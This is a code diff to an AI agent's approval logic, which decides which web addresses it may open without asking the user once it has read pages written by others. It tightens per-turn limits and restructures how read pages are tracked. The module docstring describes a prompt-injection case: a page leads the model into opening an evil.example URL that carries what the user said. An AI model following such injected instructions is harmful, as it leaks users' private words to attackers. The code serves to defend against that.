@@ -1,4 +1,4 @@
-"""Which addresses are opened, or linked to, without query once others' words were read in a conversation.
+"""Which addresses are opened, or linked to, without asking once others' words were read in a conversation.
 
 What the model has put together itself may carry something out: a page can talk it into opening
 `https://evil.example/?what-the-user-said`. An address that others wrote whole holds nothing but their own words.
@@ -16,8 +16,8 @@ from apps.agent.web.limits import MAX_URL_CHARS
 from apps.agent.web.urls import checked_url
 from apps.core.addresses import AddressRefused
 
-MAX_FOLLOWED = 8
-"""Of so many pages in a turn links are followed without query."""
+MAX_OPENED = 8
+"""So many pages of others' choosing are opened without asking in a turn."""
 MAX_EDGES = 4
 """So many signs behind an address in a text may belong to it or not."""
 
@@ -34,9 +34,9 @@ _PAGE = re.compile(r'^<page url="([^"]*)"', re.MULTILINE)
 def unnamed_host(query: ApprovalQuery) -> str:
     """The host (with its port) of a page that waits for the user's yes, "" for one that is opened without. Synchronous.
 
-    Without query open: what the user typed, what a search of the conversation found, what was opened before, and, of
-    MAX_FOLLOWED pages in a turn, links on a page of the same host that was so opened. An address that is none is refused
-    without anything being sent.
+    Without asking open what the user typed and, MAX_OPENED in a turn, what a search of the conversation found, links on a page
+    of the same host that was so opened, and what was opened before. An address that is none is refused without anything
+    being sent.
     """
     address = str(query.arguments["url"])
     try:
@@ -45,10 +45,10 @@ def unnamed_host(query: ApprovalQuery) -> str:
         return ""
     key = _key(address.partition("#")[0])
     read = WebRead.of(query.user_id, query.conversation_id)
-    if key in read.found | read.opened | addresses_in(query.own()):
+    if key in addresses_in(query.own()):
         return ""
-    linked = addresses_in(text for page, text in read.unasked if _host(_key(page)) == _host(key))
-    if key in linked and _opened_in_turn(query) < MAX_FOLLOWED:
+    linked = addresses_in(text for page, text, unasked in read.pages if unasked and _host(page) == _host(key))
+    if key in read.found | read.opened | linked and _opened_in_turn(query) < MAX_OPENED:
         return ""
     return url.netloc.decode()
 
@@ -59,10 +59,7 @@ class WebRead:
 
     found: set[str] = field(default_factory=set)  # addresses that a search returned
     opened: set[str] = field(default_factory=set)  # addresses that were opened
-    texts: list[str] = field(default_factory=list)  # of the pages
-    unasked: list[tuple[str, str]] = field(
-        default_factory=list
-    )  # address and text of those that opened unasked
+    pages: list[tuple[str, str, bool]] = field(default_factory=list)  # address, text, whether unasked
 
     @classmethod
     def of(cls, user_id: UUID, conversation_id: UUID) -> "WebRead":
@@ -74,14 +71,13 @@ class WebRead:
                 read.found.update(map(_key, _FOUND.findall(result)))
                 continue
             read.opened.add(_key(str(given.get("url", "")).partition("#")[0]))
-            read.texts.append(result)
-            if (page := _PAGE.search(result)) and not decision:
-                read.unasked.append((page[1], result))
+            page = _PAGE.search(result)
+            read.pages.append((_key(page[1]) if page else "", result, not decision))
         return read
 
     def names(self, messages: Iterable[str]) -> set[str]:
         """Every address that the user's messages, a page or a search named; for `is_named_in`."""
-        return self.found | self.opened | addresses_in([*messages, *self.texts])
+        return self.found | self.opened | addresses_in([*messages, *(text for _, text, _ in self.pages)])
 
 
 def is_named_in(address: str, named: set[str]) -> bool:
@@ -102,7 +98,7 @@ def addresses_in(texts: Iterable[str]) -> set[str]:
 
 
 def _opened_in_turn(query: ApprovalQuery) -> int:
-    """How many pages were opened without query in the turn, before this call."""
+    """How many pages were opened without asking in the turn, before this call."""
     rows = ToolCall.objects.for_user(query.user_id).filter(
         turn_id=query.turn_id, name="open_page", decision=""
     )
